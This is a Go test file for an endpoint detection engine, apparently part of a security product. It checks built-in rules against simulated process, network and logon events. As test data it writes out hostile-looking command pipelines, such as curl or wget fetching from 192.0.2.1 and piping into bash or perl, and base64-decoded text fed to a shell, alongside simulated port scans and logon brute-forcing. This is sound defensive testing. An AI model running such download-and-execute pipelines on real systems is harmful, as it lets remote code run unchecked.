package detect

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/bulwarkhq/bulwark/content/rules"
	"github.com/bulwarkhq/bulwark/event"
	"github.com/bulwarkhq/bulwark/test/need"
)

const builtinTests = "../../content/rules/tests"

// testEvent makes the event that a test file describes.
func testEvent(t *testing.T, n *node) event.Event {
	t.Helper()
	ev := event.Event{Action: event.ProcessCreated}
	if a := n.get("Action"); a != nil {
		ev.Action = a.text
	}
	ev.Class = event.ClassDevice
	switch {
	case ev.Action == event.ProcessCreated:
		ev.Class = event.ClassProcess
	case strings.HasPrefix(ev.Action, "FileSystem"):
	case strings.HasPrefix(ev.Action, "File"):
		ev.Class = event.ClassFile
	case strings.Contains(ev.Action, "Connection"), strings.HasPrefix(ev.Action, "Dns"), ev.Action == event.RawSocketCreated:
		ev.Class = event.ClassNetwork
	case strings.HasPrefix(ev.Action, "Image"):
		ev.Class = event.ClassImageLoad
	case strings.HasPrefix(ev.Action, "Logon"):
		ev.Class = event.ClassLogon
	}
	subject := &ev.Initiating
	if ev.Class == event.ClassProcess {
		subject = &ev.Process
	}
	subject.ParentPID = 1
	for i, key := range n.keys {
		v := n.items[i].text
		number := func() int64 {
			x, err := strconv.ParseInt(v, 10, 64)
			if err != nil {
				t.Fatal(err)
			}
			return x
		}
		switch key {
		case "Action":
		case "Image":
			subject.FolderPath = v
			subject.FileName = filepath.Base(v)
		case "CommandLine":
			subject.CommandLine = v
		case "CurrentDirectory":
			subject.WorkingDir = v
		case "User":
			subject.AccountName = v
		case "ParentName":
			subject.ParentFileName = v
		case "ParentImage":
			ev.Initiating.FolderPath = v
		case "ParentCommandLine":
			ev.Initiating.CommandLine = v
		case "TargetFilename":
			ev.File.FolderPath, ev.File.FileName = v, filepath.Base(v)
		case "DestinationIp":
			ev.Network.RemoteIP = v
		case "DestinationPort":
			ev.Network.RemotePort = number()
		case "QueryName":
			ev.Network.RemoteURL = v
		default: // of the additional fields
			if ev.Additional == nil {
				ev.Additional = map[string]string{}
			}
			ev.Additional[key] = v
		}
	}
	return ev
}

// Every rule of ours finds its positive events and not its negative ones.
func TestBuiltinRules(t *testing.T) {
	e := New(Options{})
	rep := e.Load(Source{Name: "builtin", FS: rules.FS(), Builtin: true})
	for _, p := range rep.Problems {
		t.Error(p)
	}
	alerting, techniques := 0, map[string]bool{}
	for _, info := range e.Rules() {
		r := info.Rule
		if info.Inactive != "" {
			t.Errorf("%s: %s", r.Title, info.Inactive)
		}
		if len(r.ID) != 36 || r.Description == "" || !r.SelfTest && !r.silent && (len(r.Techniques) == 0 || r.Tactic == "") {
			t.Errorf("%s: incomplete: %+v", r.File, r)
		}
		if !r.silent && !r.SelfTest {
			alerting++
			for _, technique := range r.Techniques {
				techniques[technique] = true
			}
		}
		if r.silent || r.corr != nil {
			continue // see TestBuiltinCorrelations
		}
		name := filepath.Base(r.File)
		t.Run(strings.TrimSuffix(name, ".yml"), func(t *testing.T) { testBuiltin(t, e, r, name) })
	}
	t.Logf("%d rules that raise alerts, %d techniques", alerting, len(techniques))
	if alerting < 150 || len(techniques) < 90 {
		t.Errorf("%d rules, %d techniques: at least 150 and 90 are promised", alerting, len(techniques))
	}
}

func testBuiltin(t *testing.T, e *Engine, r *Rule, name string) {
	data, err := os.ReadFile(filepath.Join(builtinTests, name))
	if err != nil {
		t.Fatal(err)
	}
	docs, err := documents(data)
	if err != nil {
		t.Fatal(err)
	}
	pos, neg := docs[0].get("positive"), docs[0].get("negative")
	if pos == nil || neg == nil || len(pos.items) == 0 || len(neg.items) == 0 {
		t.Fatal("needs positive and negative events")
	}
	for i := range pos.items {
		ev := testEvent(t, &pos.items[i])
		if ms := e.Evaluate(&ev); !slices.ContainsFunc(ms, func(m Match) bool { return m.Rule.ID == r.ID && len(e.Conditions(m, &ev)) > 0 }) {
			t.Errorf("line %d: not found: %+v", pos.items[i].line, pos.items[i])
		}
	}
	for i := range neg.items {
		ev := testEvent(t, &neg.items[i])
		for _, m := range e.Evaluate(&ev) {
			if m.Rule.ID == r.ID || m.Rule.Severity == event.SeverityHigh {
				t.Errorf("line %d: %s found: %+v", neg.items[i].line, m.Rule.Title, neg.items[i])
			}
		}
	}
}

// Events as the real sensor delivered them while the techniques ran for real
// (BULWARK_CAPTURE of test/techniques writes them).
func TestCapturedEvents(t *testing.T) {
	files, err := filepath.Glob(filepath.Join(builtinTests, "captured", "*.json"))
	if err != nil || len(files) < 150 {
		t.Fatal(len(files), err)
	}
	e := New(Options{})
	e.Load(Source{Name: "builtin", FS: rules.FS(), Builtin: true})
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var ev event.Event
		if err := json.Unmarshal(data, &ev); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		name := strings.TrimSuffix(filepath.Base(f), ".json")
		if !slices.ContainsFunc(e.Evaluate(&ev), func(m Match) bool { return strings.TrimSuffix(filepath.Base(m.Rule.File), ".yml") == name }) {
			t.Errorf("%s: not found by its rule: %s %s %s", name, ev.Action, ev.Process.CommandLine, ev.File.FolderPath)
		}
	}
}

// The techniques of the rules are those that ATT&CK has for Linux.
func TestBuiltinTechniques(t *testing.T) {
	data, err := os.ReadFile(need.SharedTestdata(t, "attack-techniques-linux.tsv"))
	if err != nil {
		t.Fatal(err)
	}
	known := map[string]bool{}
	for line := range strings.Lines(string(data)) {
		id, _, _ := strings.Cut(line, "\t")
		known[id] = true
	}
	e := New(Options{})
	e.Load(Source{Name: "builtin", FS: rules.FS(), Builtin: true})
	for _, info := range e.Rules() {
		for _, technique := range info.Rule.Techniques {
			if !known[technique] && technique != "T1496" {
				t.Errorf("%s: %s is no technique for Linux", info.Rule.File, technique)
			}
		}
	}
}

func TestBuiltinCorrelations(t *testing.T) {
	e := New(Options{})
	e.Load(Source{Name: "builtin", FS: rules.FS(), Builtin: true})
	start := time.Unix(1e9, 0)
	connect := func(i int, ip string, port int) event.Event {
		return event.Event{
			Class: event.ClassNetwork, Action: event.ConnectionFailed, Time: start.Add(time.Duration(i) * 100 * time.Millisecond),
			Initiating: event.Process{PID: 77, FolderPath: "/usr/bin/x"}, Network: event.Network{RemoteIP: ip, RemotePort: int64(port)},
		}
	}
	logon := func(i int, action, user, ip string) event.Event {
		return event.Event{
			Class: event.ClassLogon, Action: action, Time: start.Add(time.Duration(i) * time.Second),
			Logon: event.Logon{AccountName: user, RemoteIP: ip},
		}
	}
	look := func(i int, name string) event.Event {
		ev := proc("/usr/bin/"+name, name)
		ev.Process.Terminal, ev.Process.SessionID, ev.Process.LoginUID = "/dev/pts/3", 9, 1000
		ev.Time = start.Add(time.Duration(i) * time.Second)
		return ev
	}
	behave := func(i int, ancestors ...string) event.Event {
		ev := proc("/usr/bin/x", "x")
		ev.Class, ev.Action, ev.Time = event.ClassBehavior, "X", start.Add(time.Duration(i)*time.Second)
		ev.Additional = map[string]string{
			event.BehaviorRule: fmt.Sprint("rule", i), event.BehaviorTree: "tree", event.BehaviorTactic: "Discovery", "Ancestors": strings.Join(ancestors, " "),
		}
		return ev
	}
	ask := func(i int, action string) event.Event {
		ev := behave(i, "/usr/bin/bash")
		ev.Action, ev.Process.FolderPath = action, fmt.Sprint("/usr/bin/tool", i)
		return ev
	}
	pipe := func(lines ...string) func(int) event.Event {
		return func(i int) event.Event {
			ev := proc(lines[2*i], lines[2*i+1])
			ev.Process.ParentPID, ev.Time = 55, start.Add(time.Duration(i)*time.Millisecond)
			return ev
		}
	}
	// A fetched or decoded file and a shell beside it are no script of it; nor
	// are both below different parents.
	for i, quiet := range []func(int) event.Event{
		pipe("/usr/bin/curl", "curl -fsSLo x http://192.0.2.1/a", "/usr/bin/bash", "bash"),
		pipe("/usr/bin/wget", "wget -qO x http://192.0.2.1/a", "/usr/bin/bash", "bash"),
		pipe("/usr/bin/base64", "base64 -w 0", "/usr/bin/bash", "bash"),
		pipe("/usr/bin/base64", "base64 -d", "/usr/bin/bash", "bash x.sh"),
		func(i int) event.Event {
			ev := pipe("/usr/bin/base64", "base64 -d", "/usr/bin/bash", "bash")(i)
			ev.Process.ParentPID = int64(60 + i)
			return ev
		},
	} {
		start = start.AddDate(0, 1, 0)
		for k := range 2 {
			ev := quiet(k)
			if got := titles(e.Evaluate(&ev)); slices.ContainsFunc(got, func(s string) bool { return strings.HasSuffix(s, "text goes into a shell or interpreter") }) {
				t.Errorf("quiet pair %d: %v", i, got)
			}
		}
	}
	// Whose work it is to describe hosts.
	for _, whose := range []string{"/usr/bin/dpkg", "/usr/sbin/zabbix_agentd"} {
		for i := range 12 {
			ev := behave(i, "/usr/bin/dash", whose, "/usr/bin/bash")
			if got := titles(e.Evaluate(&ev)); len(got) > 0 {
				t.Errorf("%s: %v", whose, got)
			}
		}
	}
	// In a chroot it is so for root, and elsewhere a name says nothing.
	for i, c := range []struct {
		whose string
		uid   int64
		found bool
	}{
		{"/var/lib/x/system/usr/bin/dpkg", 0, false},
		{"/var/lib/x/system/usr/bin/dpkg", 1000, true},
		{"/usr/local/sbin/nrpe", 1000, false},
		{"/tmp/bin/dpkg", 0, true},
		{"/tmp/usr/bin/dpkg", 0, true},
		{"/home/ann/bin/facter", 1000, true},
		{"/tmp/opt/puppet", 1000, true},
		{`/tmp/a\x20/usr/bin/dpkg`, 0, true},
	} {
		start = start.AddDate(0, 1, 0)
		var got []string
		for k := range 12 {
			ev := behave(k, "/usr/bin/dash", c.whose, "/usr/bin/bash")
			ev.Process.UID, ev.Additional[event.BehaviorTree] = c.uid, fmt.Sprint("forged", i)
			got = append(got, titles(e.Evaluate(&ev))...)
		}
		if slices.Contains(got, "Program without a terminal looks around the host in many ways") != c.found {
			t.Errorf("%s of user %d: %v", c.whose, c.uid, got)
		}
	}
	for _, c := range []struct {
		title string
		n     int // events until it is found
		make  func(i int) event.Event
	}{
		{"Program tries many ports of one host", 100, func(i int) event.Event { return connect(i, "192.0.2.1", i+1) }},
		{"Program tries one port of many hosts", 50, func(i int) event.Event { return connect(i, fmt.Sprintf("192.0.2.%d", i), 22) }},
		{"Many failed logons from one address", 10, func(i int) event.Event { return logon(i, event.LogonFailed, "root", "203.0.113.1") }},
		{"Failed logons of many accounts from one address", 8, func(i int) event.Event { return logon(i, event.LogonFailed, fmt.Sprint("u", i), "203.0.113.1") }},
		{"Logon after many failed ones", 11, func(i int) event.Event {
			if i < 10 {
				return logon(i, event.LogonFailed, "root", "203.0.113.1")
			}
			return logon(i, event.LogonSuccess, "root", "203.0.113.1")
		}},
		{"Program without a terminal looks around the host in many ways", 6, func(i int) event.Event {
			return behave(i, "/usr/bin/dash", "/usr/bin/curl")
		}},
		{"Server program looks around the host", 3, func(i int) event.Event {
			return behave(i, "/usr/bin/dash", "/usr/sbin/php-fpm8.2")
		}},
		{"Accounts and users are asked for in several ways", 3, func(i int) event.Event { return ask(i, "UserDiscovery") }},
		{"Network is explored in several ways", 3, func(i int) event.Event { return ask(i, "NetworkConnectionsDiscovery") }},
		{"Files are listed in several ways", 3, func(i int) event.Event { return ask(i, "FileDiscovery") }},
		{"System is described in several ways", 4, func(i int) event.Event { return ask(i, "StorageDiscovery") }},
		{"Decoded text goes into a shell or interpreter", 2, pipe("/usr/bin/basenc", "basenc -d --base64", "/usr/bin/dash", "dash -s x")},
		{"Decoded text goes into a shell or interpreter", 2, pipe("/usr/bin/python3.11", "python3 -", "/usr/bin/xxd", "xxd -r -p")},
		{"Downloaded text goes into a shell or interpreter", 2, pipe("/usr/bin/wget", "wget -qO- http://192.0.2.1/a", "/usr/bin/bash", "bash")},
		{"Downloaded text goes into a shell or interpreter", 2, pipe("/usr/bin/curl", "curl -fsSL http://192.0.2.1/a", "/usr/bin/perl", "perl")},
		{"Many different commands that look around, in one session", 10, func(i int) event.Event {
			return look(i, []string{"whoami", "id", "w", "uname", "hostname", "ip", "ss", "ps", "df", "last"}[i])
		}},
	} {
		start = start.AddDate(2, 0, 0) // nothing of the case before counts
		for i := range c.n {
			ev := c.make(i)
			found := slices.Contains(titles(e.Evaluate(&ev)), c.title)
			if found != (i == c.n-1) {
				t.Errorf("%s: event %d: %v", c.title, i, found)
			}
		}
		// Not when the same happens slowly, or is the same again and again.
		for i := range c.n {
			ev := c.make(i)
			ev.Time = start.AddDate(1, 0, 0).Add(time.Duration(i) * time.Hour)
			if slices.Contains(titles(e.Evaluate(&ev)), c.title) {
				t.Errorf("%s: found in what took %d hours", c.title, c.n)
			}
		}
	}
}

func TestSelfTestAlert(t *testing.T) {
	e := New(Options{})
	e.Load(Source{Name: "builtin", FS: rules.FS(), Builtin: true})
	ev := event.Event{Class: event.ClassProcess, Action: event.ProcessCreated}
	ev.Process = event.Process{PID: 7, FolderPath: "/tmp/bulwark-selftest-77ab", CommandLine: "/tmp/bulwark-selftest-77ab --behaviour-alert=77ab"}
	for range 2 { // a self-test is never taken for a repetition
		ms := e.Evaluate(&ev)
		if len(ms) != 1 {
			t.Fatalf("%d matches", len(ms))
		}
		a, report := e.Alert(ms[0], &ev, nil)
		if !report || a.Source != event.SourceSelfTest || a.TestID != "77ab" || a.Severity != event.SeverityInformational || a.Event == nil || len(a.ID) != 32 {
			t.Errorf("%v %+v", report, a)
		}
	}
	// An administrator's rule cannot pose as a self-test.
	data, err := os.ReadFile("../../content/rules/selftest.yml")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "mine.yml"), data, 0o644); err != nil {
		t.Fatal(err)
	}
	e.Load(Source{Name: dir, FS: os.DirFS(dir)})
	a, _ := e.Alert(e.Evaluate(&ev)[0], &ev, nil)
	if a.Source != event.SourceEDR || a.TestID != "" {
		t.Errorf("source %s", a.Source)
	}
}
